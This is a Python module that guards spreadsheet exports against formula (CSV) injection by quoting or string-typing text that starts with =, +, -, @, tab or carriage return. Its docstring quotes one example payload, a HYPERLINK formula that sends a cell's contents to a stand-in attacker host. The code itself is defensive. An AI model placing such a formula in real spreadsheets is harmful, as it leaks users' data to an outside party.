"""Spreadsheet cells that cannot run: formula injection (CSV injection) defence for every .xlsx
and CSV the app writes, after OWASP's guidance.

Text that begins with `=`, `+`, `-`, `@`, a tab or a carriage return would be read by Excel or
LibreOffice as a formula (`=HYPERLINK("http://evil.example/?x="&B10, …)` leaks the sheet). In
.xlsx such text is stored as a plain string cell (openpyxl would otherwise store a formula); in
CSV it is prefixed with a single quote, which spreadsheets show as text. Numbers, dates and
booleans are left as they are: they are data, not text."""

from __future__ import annotations

from typing import Any

from openpyxl.cell.cell import Cell

DANGEROUS_FIRST = ("=", "+", "-", "@", "\t", "\r")


def is_dangerous(value: Any) -> bool:  # noqa: ANN401
    return isinstance(value, str) and value.startswith(DANGEROUS_FIRST)


def csv_cell(value: Any) -> Any:  # noqa: ANN401
    """A value for csv.writer: dangerous text gets a leading single quote."""
    return "'" + value if is_dangerous(value) else value


def csv_row(values: list[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def set_xlsx(cell: Cell, value: Any) -> Cell:  # noqa: ANN401
    """Writes `value` into an openpyxl cell; text starting like a formula stays text."""
    cell.value = value
    if is_dangerous(value):
        cell.data_type = "s"  # openpyxl typed it "f" (formula): a string is never evaluated
        cell.quotePrefix = True  # and editing it in Excel keeps it text
    return cell
